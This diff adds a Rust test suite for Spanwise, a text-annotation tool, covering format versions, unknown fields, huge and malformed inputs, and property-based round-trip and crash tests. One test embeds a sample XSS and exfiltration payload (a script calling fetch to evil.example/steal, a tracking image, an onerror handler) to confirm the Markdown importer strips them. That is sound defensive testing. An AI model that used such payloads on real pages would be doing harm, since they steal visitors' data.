@@ -1,0 +1,699 @@
+//! Hostile and unusual input: every format version's fixture, newer versions, unknown fields,
+//! huge files and lines, a million annotations, deep nesting, Markdown built to be slow, and
+//! property tests that random projects save and load exactly and that damaged bytes never crash
+//! a reader. See docs/RELIABILITY.md for the list of faults and results.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+use proptest::prelude::*;
+use spanwise::edit::{Applied, Direction, Edit, apply};
+use spanwise::formats::{self, ImportError};
+use spanwise::model::{
+    Annotation, Annotator, Document, Fragment, IdGenerator, ItemId, Memo, MemoTarget, Project, Relation, Value,
+    validate,
+};
+use spanwise::store::{self, LoadError, journal, unknown::Anchor};
+
+fn fixtures() -> PathBuf {
+    common::manifest_dir().join("tests/fixtures")
+}
+
+fn fixture(version: u32) -> PathBuf {
+    fixtures().join(format!("v{version}.spanwise.ron"))
+}
+
+// ---------------------------------------------------------------------------------------------
+// Versions
+
+#[test]
+fn every_format_version_has_a_fixture_that_loads() {
+    for version in 1..=store::FORMAT_VERSION {
+        let path = fixture(version);
+        let project = store::load(&path).unwrap_or_else(|err| panic!("{}: {err}", path.display()));
+        assert!(project.annotation_count() > 0, "{}", path.display());
+    }
+    // And no fixture for a version this build does not read.
+    assert!(!fixture(store::FORMAT_VERSION + 1).exists());
+}
+
+#[test]
+fn the_v1_fixture_has_every_field_and_loads_exactly() {
+    let path = fixture(1);
+    let project = store::load(&path).unwrap();
+    assert_eq!(project.name, "Format version 1 fixture");
+    assert!(project.description.contains('\n') && project.description.contains('\t'));
+    assert_eq!(project.codebook.labels.len(), 4);
+    assert_eq!(project.codebook.attributes.len(), 2);
+    assert_eq!(project.codebook.document_fields.len(), 2);
+    assert_eq!(project.documents.len(), 2);
+    let first = &project.documents[0];
+    assert_eq!(first.annotations.len(), 6);
+    assert_eq!(first.relations[0].note, "direct quote");
+    assert_eq!(first.slice(31..43), Some("👨\u{200d}👩\u{200d}👧 family"));
+    let second = &project.documents[1];
+    assert_eq!(second.variables["outlet"], Value::Text("IranWire".into()));
+    let claim = &second.annotations[0];
+    assert_eq!(claim.text(), "a discontinuous … here");
+    assert_eq!(claim.attributes["confidence"], Value::Number(0.75));
+    assert_eq!(claim.attributes["stance"], Value::Choice("against".into()));
+    assert!(claim.note.contains('\n'));
+    let targets: Vec<&MemoTarget> = project.memos.iter().map(|m| &m.target).collect();
+    assert_eq!(
+        targets,
+        [
+            &MemoTarget::Project,
+            &MemoTarget::Document("d1".into()),
+            &MemoTarget::Label("claim".into()),
+            &MemoTarget::Annotation(claim.id)
+        ]
+    );
+    // The current version writes version 1 exactly as the fixture has it. (When the format
+    // changes, this line goes: old fixtures must still load, not be written again.)
+    assert_eq!(store::to_string(&project), std::fs::read_to_string(&path).unwrap());
+}
+
+#[test]
+fn a_newer_version_is_refused_naming_both_versions() {
+    let newer = std::fs::read_to_string(fixture(1)).unwrap().replacen("version: 1,", "version: 2,", 1);
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("newer.spanwise.ron");
+    std::fs::write(&path, &newer).unwrap();
+    let message = store::load(&path).unwrap_err().to_string();
+    assert!(message.contains("format version 2") && message.contains("versions up to 1"), "{message}");
+    // A newer file with fields and syntax this version cannot parse gets the same message, not
+    // a syntax error.
+    let stranger = newer.replacen("memos: [", "future_block: Something(new, [1, 2]),\n    memos: [", 1);
+    let message = store::from_str(&stranger.replace("target: Project", "target: Paragraph(3)")).unwrap_err();
+    assert!(matches!(message, LoadError::NewerVersion { found: 2, supported: 1 }), "{message}");
+}
+
+/// The v1 fixture with fields this version does not know, at every level.
+fn with_unknown_fields() -> String {
+    let text = std::fs::read_to_string(fixture(1)).unwrap();
+    let claim_line = text.lines().find(|l| l.contains("text: \"a discontinuous\"")).unwrap();
+    let claim_with = claim_line.replacen("(id: ", "(confidence_source: Model(\"gpt\", 0.9), id: ", 1);
+    let claim_with = claim_with.replacen("text: \"here\")", "text: \"here\", checked: true)", 1);
+    text.replacen("  version: 1,\n", "  version: 1,\n  generator: \"a script\",\n", 1)
+        .replacen("    name: \"Format version 1 fixture\",\n", "    name: \"Format version 1 fixture\",\n    license: Some(\"CC-BY\"),\n", 1)
+        .replacen("          color: \"#e15759\",\n", "          color: \"#e15759\",\n          shortcut_hint: \"press 1\",\n", 1)
+        .replacen("        name: \"second.md\",\n", "        name: \"second.md\",\n        language: \"en\",\n        reviewed: [(by: \"ana\", on: \"2026-01-02\")],\n", 1)
+        .replacen(claim_line, &claim_with, 1)
+        .replacen("note: \"direct quote\")", "note: \"direct quote\", weight: 2.5)", 1)
+        .replacen("        title: \"Memo 4\",\n", "        title: \"Memo 4\",\n        pinned: true,\n", 1)
+}
+
+#[test]
+fn unknown_fields_are_ignored_on_load_and_kept_on_save() {
+    let text = with_unknown_fields();
+    let (project, unknown) = store::from_str_keeping_unknown(&text).expect("unknown fields do not stop loading");
+    assert_eq!(project, store::load(&fixture(1)).unwrap(), "the known fields are read as usual");
+    let names: Vec<&str> = unknown.fields.iter().map(|f| f.name.as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            "generator",
+            "license",
+            "shortcut_hint",
+            "weight",
+            "language",
+            "reviewed",
+            "confidence_source",
+            "checked",
+            "pinned"
+        ]
+    );
+    let claim = project.documents[1].annotations[0].id;
+    let field = |name: &str| unknown.fields.iter().find(|f| f.name == name).unwrap();
+    assert_eq!(field("generator").anchor, Anchor::File);
+    assert_eq!(field("license").anchor, Anchor::Project);
+    assert_eq!(field("license").value, "Some(\"CC-BY\")");
+    assert_eq!(field("shortcut_hint").anchor, Anchor::Label("claim".into()));
+    assert_eq!(field("reviewed").anchor, Anchor::Document("d2".into()));
+    assert_eq!(field("reviewed").value, "[(by: \"ana\", on: \"2026-01-02\")]");
+    assert_eq!(field("confidence_source").anchor, Anchor::Annotation { document: "d2".into(), id: claim });
+    assert_eq!(field("confidence_source").value, "Model(\"gpt\", 0.9)");
+    assert_eq!(field("checked").anchor, Anchor::Fragment { document: "d2".into(), annotation: claim, index: 1 });
+    assert_eq!(field("pinned").anchor, Anchor::Memo(project.memos[3].id));
+
+    // Saved, loaded, saved: every field is still there, in its place (at the end of its struct),
+    // and the output is stable.
+    let sorted = |fields: &store::UnknownFields| {
+        let mut fields = fields.fields.clone();
+        fields.sort_by(|a, b| a.name.cmp(&b.name));
+        fields
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("p.spanwise.ron");
+    store::save_file_with(&project, &path, &unknown).unwrap();
+    let loaded = store::load_file(&path).unwrap();
+    assert_eq!(loaded.project, project);
+    assert_eq!(sorted(&loaded.unknown), sorted(&unknown));
+    let saved = std::fs::read_to_string(&path).unwrap();
+    store::save_file_with(&loaded.project, &path, &loaded.unknown).unwrap();
+    assert_eq!(std::fs::read_to_string(&path).unwrap(), saved);
+    // One annotation per line still holds with its unknown fields.
+    let claim_lines: Vec<&str> = saved.lines().filter(|l| l.contains(&format!("id: {claim},"))).collect();
+    assert_eq!(claim_lines.len(), 1);
+    assert!(claim_lines[0].contains("confidence_source: Model(\"gpt\", 0.9)"), "{}", claim_lines[0]);
+    assert!(claim_lines[0].contains("text: \"here\", checked: true)"), "{}", claim_lines[0]);
+
+    // Edited: the field follows its annotation; deleted: it goes with it.
+    let mut edited = project.clone();
+    let mut changed = edited.documents[1].annotations[0].clone();
+    changed.label = "quote".into();
+    apply(&mut edited, Edit::UpdateAnnotation { document: "d2".into(), annotation: changed }).unwrap();
+    let text = store::to_string_with(&edited, &unknown);
+    let (_, kept) = store::from_str_keeping_unknown(&text).unwrap();
+    assert_eq!(sorted(&kept), sorted(&unknown));
+    apply(&mut edited, Edit::RemoveAnnotation { document: "d2".into(), id: claim }).unwrap();
+    edited.memos.retain(|m| m.target != MemoTarget::Annotation(claim));
+    let text = store::to_string_with(&edited, &unknown);
+    let (_, kept) = store::from_str_keeping_unknown(&text).unwrap();
+    let mut names: Vec<&str> = kept.fields.iter().map(|f| f.name.as_str()).collect();
+    names.sort();
+    assert_eq!(names, ["generator", "language", "license", "reviewed", "shortcut_hint", "weight"]);
+}
+
+#[test]
+fn unknown_fields_survive_editing_and_saving_in_the_app() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("p.spanwise.ron");
+    let sample = std::fs::read_to_string(common::sample_project_path()).unwrap();
+    let with_fields = sample.replacen("  version: 1,\n", "  version: 1,\n  generator: \"a script\",\n", 1).replacen(
+        "(id: 5314404822026727, ",
+        "(id: 5314404822026727, reviewed: Some(true), ",
+        1,
+    );
+    std::fs::write(&path, with_fields).unwrap();
+    let settings = spanwise::settings::Settings { annotator_name: "Test Coder".into(), ..Default::default() };
+    let mut app = spanwise::ui::SpanwiseApp::new(spanwise::ui::AppConfig { settings, settings_path: None });
+    app = app.with_file(&path);
+    let gone = app.project.documents[0].annotations.iter().find(|a| a.text() == "IranWire").unwrap().id;
+    app.command(spanwise::ui::Command::SelectAnnotation(gone));
+    app.command(spanwise::ui::Command::DeleteAnnotation);
+    app.command(spanwise::ui::Command::Save);
+    let mut harness = egui_kittest::Harness::builder()
+        .with_size(egui::vec2(1400.0, 900.0))
+        .build_ui_state(|ui, app: &mut spanwise::ui::SpanwiseApp| app.frame_ui(ui), app);
+    harness.run();
+    assert!(!harness.state().is_dirty());
+    let loaded = store::load_file(&path).unwrap();
+    assert!(loaded.project.documents[0].annotation(gone).is_none(), "the edit was saved");
+    let fields: Vec<(&str, &str)> = loaded.unknown.fields.iter().map(|f| (f.name.as_str(), f.value.as_str())).collect();
+    // Written back at the end of their structs: the annotation's, then the file's.
+    assert_eq!(fields, [("reviewed", "Some(true)"), ("generator", "\"a script\"")]);
+    assert_eq!(
+        loaded.unknown.fields[0].anchor,
+        Anchor::Annotation { document: "d1".into(), id: ItemId(5314404822026727) }
+    );
+}
+
+#[test]
+fn an_unknown_variant_is_refused_with_its_line() {
+    let text = std::fs::read_to_string(fixture(1)).unwrap().replacen("target: Project,", "target: Paragraph(3),", 1);
+    let line = text.lines().position(|l| l.contains("Paragraph(3)")).unwrap() + 1;
+    let message = store::from_str(&text).unwrap_err().to_string();
+    assert!(message.contains(&format!("line {line}:")), "{message}");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Huge inputs
+
+fn sparse_file(path: &Path, size: u64) {
+    std::fs::File::create(path).unwrap().set_len(size).unwrap();
+}
+
+#[test]
+fn a_project_file_over_the_limit_is_refused_without_reading_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("huge.spanwise.ron");
+    sparse_file(&path, store::MAX_FILE_BYTES + 1);
+    let start = Instant::now();
+    let message = store::load(&path).unwrap_err().to_string();
+    assert!(start.elapsed() < Duration::from_secs(2), "{:?}", start.elapsed());
+    assert!(message.contains("Spanwise refuses project files over 1073741824 bytes"), "{message}");
+}
+
+#[test]
+fn a_200_mb_text_is_refused_at_once_and_the_app_says_why() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("huge.txt");
+    sparse_file(&path, 200_000_000);
+    let start = Instant::now();
+    let err = formats::import_path(&path, "d1".into()).unwrap_err();
+    assert!(start.elapsed() < Duration::from_secs(1), "refused without reading: {:?}", start.elapsed());
+    assert!(matches!(err, ImportError::TooLarge { size: 200_000_000, .. }), "{err}");
+    assert!(err.to_string().contains("Spanwise imports texts of at most 67108864 bytes"), "{err}");
+    let settings = spanwise::settings::Settings { annotator_name: "Test Coder".into(), ..Default::default() };
+    let app =
+        spanwise::ui::SpanwiseApp::new(spanwise::ui::AppConfig { settings, settings_path: None }).with_file(&path);
+    match &app.dialog {
+        Some(spanwise::ui::dialogs::Dialog::Error { title, message }) => {
+            assert_eq!(title, "Cannot open the text");
+            assert!(message.contains("at most 67108864 bytes"), "{message}");
+        }
+        other => panic!("expected an error dialog, got {other:?}"),
+    }
+}
+
+#[test]
+fn an_endless_input_is_cut_off_at_the_limit() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("zero.txt");
+    std::os::unix::fs::symlink("/dev/zero", &path).unwrap();
+    let err = formats::import_path(&path, "d1".into()).unwrap_err();
+    assert!(matches!(err, ImportError::TooLarge { .. }), "{err}");
+}
+
+#[test]
+fn a_5_mb_single_line_imports_tags_and_round_trips() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("line.txt");
+    let sentence = "Die Wächter des Rates prüften die Kandidaten vor der Wahl. 社交媒体. ";
+    let mut line = sentence.repeat(5_000_000 / sentence.len() + 1);
+    line.push_str("Letzte Worte");
+    assert!(line.len() > 5_000_000 && !line.contains('\n'));
+    std::fs::write(&path, &line).unwrap();
+    let start = Instant::now();
+    let document = formats::import_path(&path, "d1".into()).unwrap();
+    assert!(start.elapsed() < Duration::from_secs(10), "{:?}", start.elapsed());
+    assert_eq!(document.text, line);
+    let mut project = Project::new("one line");
+    project.documents.push(document);
+    project.annotators.push(Annotator { id: "ana".into(), name: "Ana".into() });
+    let end = project.documents[0].char_len();
+    let fragment = project.documents[0].fragment(end - 5..end).unwrap();
+    assert_eq!(fragment.text, "Worte");
+    let annotation = Annotation {
+        id: ItemId(1),
+        label: "claim".into(),
+        fragments: vec![fragment],
+        annotator: "ana".into(),
+        created: common::time(),
+        modified: common::time(),
+        note: String::new(),
+        attributes: Default::default(),
+    };
+    apply(&mut project, Edit::AddAnnotation { document: "d1".into(), annotation }).unwrap();
+    let saved = dir.path().join("line.spanwise.ron");
+    store::save(&project, &saved).unwrap();
+    assert_eq!(store::load(&saved).unwrap(), project);
+}
+
+/// A project file with one document and `count` annotations, written directly (fast).
+fn write_many_annotations(path: &Path, count: usize) {
+    use std::fmt::Write;
+    let word = "word ";
+    let text = word.repeat(count);
+    let sha = spanwise::model::sha256_hex(&text);
+    let mut out = String::with_capacity(count * 190);
+    out.push_str("// Spanwise project file.\n(\n  format: \"spanwise\",\n  version: 1,\n  project: (\n");
+    out.push_str("    name: \"many\",\n    created: \"2026-01-01T00:00:00Z\",\n");
+    let codebook = ron::to_string(&spanwise::model::Codebook::default_news()).unwrap();
+    writeln!(out, "    codebook: {codebook},").unwrap();
+    out.push_str("    annotators: [(id: \"a\", name: \"A\")],\n    documents: [(\n      id: \"d1\",\n      name: \"many.txt\",\n");
+    writeln!(out, "      sha256: \"{sha}\",\n      text: \"{text}\",\n      annotations: [").unwrap();
+    let mut ids = IdGenerator::seeded(5);
+    let mut used = std::collections::HashSet::new();
+    for i in 0..count {
+        let mut id = ids.next_id();
+        while !used.insert(id) {
+            id = ids.next_id();
+        }
+        let start = i * word.len();
+        writeln!(
+            out,
+            "        (id: {id}, label: \"actor\", fragments: [(start: {start}, end: {}, text: \"word\")], annotator: \"a\", \
+             created: \"2026-01-01T00:00:00Z\", modified: \"2026-01-01T00:00:00Z\"),",
+            start + 4
+        )
+        .unwrap();
+    }
+    out.push_str("      ],\n    )],\n  ),\n)\n");
+    std::fs::write(path, out).unwrap();
+}
+
+fn spanwise_cli(args: &[&str], shell_prefix: Option<&str>) -> std::process::Output {
+    let binary = env!("CARGO_BIN_EXE_spanwise");
+    match shell_prefix {
+        None => Command::new(binary).args(args).output().unwrap(),
+        Some(prefix) => {
+            let quoted: Vec<String> = args.iter().map(|a| format!("'{a}'")).collect();
+            Command::new("sh")
+                .arg("-c")
+                .arg(format!("{prefix}; exec '{binary}' {}", quoted.join(" ")))
+                .output()
+                .unwrap()
+        }
+    }
+}
+
+#[test]
+fn a_million_annotations_load_or_are_refused_never_killed() {
+    use std::os::unix::process::ExitStatusExt;
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("million.spanwise.ron");
+    write_many_annotations(&path, 1_000_000);
+    let size = std::fs::metadata(&path).unwrap().len();
+    assert!(size > 150_000_000, "{size}");
+    let path = path.to_str().unwrap();
+    // With the memory it needs: it loads.
+    let output = spanwise_cli(&["validate", path], None);
+    let (stdout, stderr) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    assert_eq!(output.status.signal(), None, "killed: {stderr}");
+    match store::available_memory() {
+        Some(available) if available < size * store::MEMORY_PER_FILE_BYTE => {
+            assert!(stderr.contains("MB of memory"), "{stderr}");
+        }
+        _ => assert!(stdout.contains("valid (1 documents, 1000000 annotations)"), "{stdout}{stderr}"),
+    }
+    // In a process limited to 300 MB of address space (a small machine): refused, with a message,
+    // before anything is read.
+    let output = spanwise_cli(&["validate", path], Some("ulimit -v 300000"));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.signal(), None, "killed: {stderr}");
+    assert_eq!(output.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains("opening it needs about") && stderr.contains("MB of memory"), "{stderr}");
+}
+
+#[test]
+fn deep_nesting_is_an_error_not_a_stack_overflow() {
+    let deep = format!("(format: \"spanwise\", version: 1, project: {}", "[".repeat(200_000));
+    assert!(store::from_str(&deep).is_err());
+    let deep = format!("(format: \"spanwise\", version: 1, project: (name: {}", "Some(".repeat(200_000));
+    assert!(store::from_str(&deep).is_err());
+    let journal = format!("{}\n", "[".repeat(200_000));
+    assert!(journal::parse(journal.as_bytes(), Path::new("j")).is_err());
+}
+
+#[test]
+fn markdown_built_to_be_slow_imports_in_linear_time() {
+    let cases = [
+        ("nested links", format!("{}x{}", "[".repeat(50_000), "](u)".repeat(50_000))),
+        ("unclosed links", "[a](".repeat(300_000)),
+        ("unclosed tags", "<a".repeat(300_000)),
+        ("open brackets", "[".repeat(1_000_000)),
+        ("brackets then parens", format!("{}{}", "[]".repeat(300_000), "(".repeat(300_000))),
+        ("emphasis runs", "*_`".repeat(300_000)),
+    ];
+    for (what, markdown) in cases {
+        let start = Instant::now();
+        let document = formats::markdown::import(&markdown, "d1".into(), "x.md".into());
+        assert!(start.elapsed() < Duration::from_secs(10), "{what}: {:?}", start.elapsed());
+        assert!(document.text.len() <= markdown.len(), "{what}");
+    }
+}
+
+#[test]
+fn scripts_and_remote_images_stay_inert_text() {
+    let markdown = "# Title\n\n<script>fetch('http://evil.example/steal')</script> Hello \
+                    ![a chart](http://evil.example/track.png) <img src=\"http://evil.example/x.png\" onerror=\"alert(1)\">";
+    let document = formats::markdown::import(markdown, "d1".into(), "x.md".into());
+    assert!(!document.text.contains("<script") && !document.text.contains("<img"), "{}", document.text);
+    assert!(document.text.contains("a chart"), "alt text kept: {}", document.text);
+    assert!(!document.text.contains("track.png"), "{}", document.text);
+    // Spanwise has no network code at all: no HTTP client among its dependencies.
+    let manifest = std::fs::read_to_string(common::manifest_dir().join("Cargo.toml")).unwrap();
+    for client in ["reqwest", "ureq", "hyper", "curl", "isahc", "attohttpc"] {
+        assert!(!manifest.contains(client), "{client}");
+    }
+}
+
+#[test]
+fn crlf_line_ends_and_a_byte_order_mark_are_tolerated() {
+    let text = std::fs::read_to_string(fixture(1)).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("windows.spanwise.ron");
+    std::fs::write(&path, format!("\u{feff}{}", text.replace('\n', "\r\n"))).unwrap();
+    assert_eq!(store::load(&path).unwrap(), store::load(&fixture(1)).unwrap());
+}
+
+// ---------------------------------------------------------------------------------------------
+// Property tests
+
+const LABELS: [&str; 4] = ["claim", "quote", "actor", "recommendation"];
+
+/// Any text, including line breaks, tabs, control characters, combining marks and emoji.
+fn any_text(max: usize) -> impl Strategy<Value = String> {
+    proptest::collection::vec(
+        prop_oneof![
+            8 => any::<char>(),
+            2 => Just('\n'),
+            1 => prop::sample::select(vec!['\r', '\t', '\0', '"', '\'', '\\', '\u{200d}', '\u{301}', '\u{feff}', '\u{2028}']),
+        ],
+        1..max,
+    )
+    .prop_map(|chars| chars.into_iter().collect())
+}
+
+fn any_value() -> impl Strategy<Value = Value> {
+    prop_oneof![
+        any_text(20).prop_map(Value::Text),
+        any::<f64>().prop_filter("NaN is not equal to itself", |n| !n.is_nan()).prop_map(Value::Number),
+        any::<bool>().prop_map(Value::Bool),
+        "[a-z]{1,8}".prop_map(Value::Choice),
+    ]
+}
+
+type AnnotationSeed = (usize, usize, usize, bool, String, Vec<(String, Value)>);
+
+fn any_project() -> impl Strategy<Value = Project> {
+    (
+        any_text(40),
+        any_text(40),
+        proptest::collection::vec(any_text(300), 1..3),
+        proptest::collection::vec(
+            (
+                any::<usize>(),
+                any::<usize>(),
+                any::<usize>(),
+                any::<bool>(),
+                any_text(30),
+                proptest::collection::vec(("[a-z]{1,6}", any_value()), 0..3),
+            ),
+            0..25,
+        ),
+        proptest::collection::vec((any::<usize>(), any::<usize>(), any_text(10)), 0..8),
+        proptest::collection::vec((any::<u8>(), any_text(20)), 0..4),
+        any::<u64>(),
+    )
+        .prop_map(|(name, description, texts, annotations, relations, memos, seed)| {
+            build_project(name, description, texts, annotations, relations, memos, seed)
+        })
+}
+
+fn build_project(
+    name: String,
+    description: String,
+    texts: Vec<String>,
+    annotations: Vec<AnnotationSeed>,
+    relations: Vec<(usize, usize, String)>,
+    memos: Vec<(u8, String)>,
+    seed: u64,
+) -> Project {
+    let mut project = Project::new(name);
+    project.description = description;
+    project.created = common::time();
+    project.annotators.push(Annotator { id: "ana".into(), name: "Ana \"the coder\"\n".into() });
+    let mut ids = IdGenerator::seeded(seed);
+    for (i, text) in texts.into_iter().enumerate() {
+        let mut document = Document::new(format!("d{}", i + 1), format!("doc {i}.txt"), text);
+        document.metadata.insert("title\t".into(), "A \"title\"\n".into());
+        project.documents.push(document);
+    }
+    for (n, (doc, a, b, two, note, attributes)) in annotations.into_iter().enumerate() {
+        let document = &project.documents[doc % project.documents.len()];
+        let len = document.char_len();
+        let start = a % len;
+        let end = start + 1 + b % (len - start);
+        let mut fragments = vec![document.fragment(start..end).unwrap()];
+        if two && end + 1 < len {
+            let second = end + 1 + b % (len - end - 1);
+            fragments.push(document.fragment(second..(second + 1).min(len)).unwrap());
+        }
+        let annotation = Annotation {
+            id: ids.next_id(),
+            label: LABELS[n % 4].into(),
+            fragments,
+            annotator: "ana".into(),
+            created: common::time(),
+            modified: common::time(),
+            note,
+            attributes: attributes.into_iter().collect(),
+        };
+        let document = document.id.clone();
+        apply(&mut project, Edit::AddAnnotation { document, annotation }).unwrap();
+    }
+    for (from, to, note) in relations {
+        let document = &project.documents[from % project.documents.len()];
+        let all = &document.annotations;
+        let actors: Vec<&Annotation> = all.iter().filter(|a| a.label == "actor").collect();
+        if all.is_empty() || actors.is_empty() {
+            continue;
+        }
+        let (source, target) = (all[from % all.len()].id, actors[to % actors.len()].id);
+        if source == target {
+            continue;
+        }
+        let relation = Relation {
+            id: ids.next_id(),
+            kind: "about".into(),
+            from: source,
+            to: target,
+            annotator: "ana".into(),
+            created: common::time(),
+            modified: common::time(),
+            note,
+        };
+        let document = document.id.clone();
+        let _ = apply(&mut project, Edit::AddRelation { document, relation });
+    }
+    for (kind, text) in memos {
+        let target = match kind % 4 {
+            0 => MemoTarget::Project,
+            1 => MemoTarget::Document("d1".into()),
+            2 => MemoTarget::Label("claim".into()),
+            _ => match project.documents[0].annotations.first() {
+                Some(a) => MemoTarget::Annotation(a.id),
+                None => MemoTarget::Project,
+            },
+        };
+        project.memos.push(Memo {
+            id: ids.next_id(),
+            target,
+            title: text.clone(),
+            text,
+            author: "ana".into(),
+            created: common::time(),
+            modified: common::time(),
+        });
+    }
+    assert!(validate(&project).is_empty(), "{:?}", validate(&project));
+    project
+}
+
+/// A small valid file to damage.
+fn sample_text() -> String {
+    std::fs::read_to_string(fixture(1)).unwrap()
+}
+
+proptest! {
+    // 64 cases in the test suite; PROPTEST_CASES=10000 for a longer run.
+    #![proptest_config(ProptestConfig {
+        cases: std::env::var("PROPTEST_CASES").ok().and_then(|c| c.parse().ok()).unwrap_or(64),
+        .. ProptestConfig::default()
+    })]
+
+    #[test]
+    fn random_projects_save_and_load_exactly(project in any_project()) {
+        let text = store::to_string(&project);
+        let loaded = store::from_str(&text).map_err(|e| TestCaseError::fail(format!("{e}\n{text}")))?;
+        prop_assert_eq!(&loaded, &project);
+        prop_assert_eq!(&store::to_string(&loaded), &text);
+        // One annotation per line, whatever the text holds.
+        for annotation in project.documents.iter().flat_map(|d| &d.annotations) {
+            let lines = text.lines().filter(|l| l.contains(&format!("(id: {}, label:", annotation.id))).count();
+            prop_assert_eq!(lines, 1);
+        }
+    }
+
+    #[test]
+    fn random_projects_survive_the_journal(project in any_project()) {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("j.journal");
+        let owner = store::lock::LockOwner::current("prop");
+        let base = Project::new("empty");
+        let mut writer = journal::JournalWriter::create(&path, &owner, None, None, journal::StartFrom::Snapshot(&base), &Default::default()).unwrap();
+        // The whole project as edits: its annotator and documents (with their annotations).
+        let mut edits = vec![Edit::AddAnnotator(project.annotators[0].clone())];
+        for (index, document) in project.documents.iter().enumerate() {
+            edits.push(Edit::AddDocument { index, document: Box::new(document.clone()) });
+        }
+        let applied: Vec<Applied> = edits.into_iter().map(|edit| Applied { direction: Direction::Apply, edit }).collect();
+        writer.append(&applied).unwrap();
+        drop(writer);
+        let recovery = journal::prepare(&path, None).unwrap();
+        prop_assert!(recovery.notes.is_empty(), "{:?}", recovery.notes);
+        prop_assert_eq!(&recovery.project.documents, &project.documents);
+    }
+
+    #[test]
+    fn damaged_project_files_never_panic(cuts in proptest::collection::vec((any::<usize>(), any::<u8>(), 0u8..4), 1..6)) {
+        let mut bytes = sample_text().into_bytes();
+        for (at, byte, how) in cuts {
+            let at = at % (bytes.len() + 1);
+            match how {
+                0 => bytes.truncate(at),
+                1 if at < bytes.len() => bytes[at] = byte,
+                2 => bytes.insert(at, byte),
+                _ if at < bytes.len() => { bytes.remove(at); }
+                _ => {}
+            }
+        }
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("damaged.spanwise.ron");
+        std::fs::write(&path, &bytes).unwrap();
+        // Loads (then it is valid) or is refused with at least one problem: never a panic.
+        match store::load_file(&path) {
+            Ok(loaded) => prop_assert!(validate(&loaded.project).is_empty()),
+            Err(err) => prop_assert!(!err.problems().is_empty()),
+        }
+    }
+
+    #[test]
+    fn arbitrary_bytes_never_panic_any_reader(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
+        let text = String::from_utf8_lossy(&bytes);
+        let _ = store::from_str(&text);
+        let _ = store::from_str_keeping_unknown(&format!("(format: \"spanwise\", version: 1, {text}"));
+        let _ = journal::parse(&bytes, Path::new("j"));
+        let _ = formats::markdown::import(&text, "d1".into(), "x.md".into());
+        let _ = formats::text::import(&text, "d1".into(), "x.txt".into());
+    }
+
+    #[test]
+    fn a_journal_cut_anywhere_replays_a_prefix(cut in any::<usize>()) {
+        let project = common::tricky_project();
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("j.journal");
+        let owner = store::lock::LockOwner::current("prop");
+        let mut writer = journal::JournalWriter::create(&path, &owner, None, None, journal::StartFrom::Snapshot(&project), &Default::default()).unwrap();
+        let ids: Vec<ItemId> = project.documents[0].annotations.iter().map(|a| a.id).collect();
+        for id in &ids {
+            let edit = Edit::RemoveAnnotation { document: "d1".into(), id: *id };
+            writer.append(&[Applied { direction: Direction::Apply, edit }]).unwrap();
+        }
+        drop(writer);
+        let bytes = std::fs::read(&path).unwrap();
+        let header_len = bytes.iter().position(|b| *b == b'\n').unwrap() + 1;
+        let cut = header_len + cut % (bytes.len() - header_len + 1);
+        std::fs::write(&path, &bytes[..cut]).unwrap();
+        let contents = journal::read(&path).unwrap();
+        let complete_lines = bytes[header_len..cut].iter().filter(|b| **b == b'\n').count();
+        prop_assert!(contents.entries.len() == complete_lines || contents.entries.len() == complete_lines + 1);
+        let torn = contents.entries.len() == complete_lines && cut > header_len && bytes[cut - 1] != b'\n';
+        prop_assert_eq!(matches!(contents.stop, Some(journal::Stop::Torn { .. })), torn);
+        let recovery = journal::prepare(&path, None).unwrap();
+        let remaining = recovery.project.documents[0].annotations.len();
+        prop_assert_eq!(remaining, ids.len() - contents.entries.len());
+    }
+}
+
+#[test]
+fn fragments_keep_their_text_through_edits_on_random_text() {
+    // A sanity check of the fixture helpers above with a fixed seed.
+    let project = build_project(
+        "n".into(),
+        "d".into(),
+        vec!["abc\ndef".into()],
+        vec![(0, 0, 2, true, "x".into(), vec![])],
+        vec![],
+        vec![(0, "m".into())],
+        1,
+    );
+    let fragments: Vec<&Fragment> = project.documents[0].annotations[0].fragments.iter().collect();
+    assert_eq!(fragments[0].text, "abc");
+}
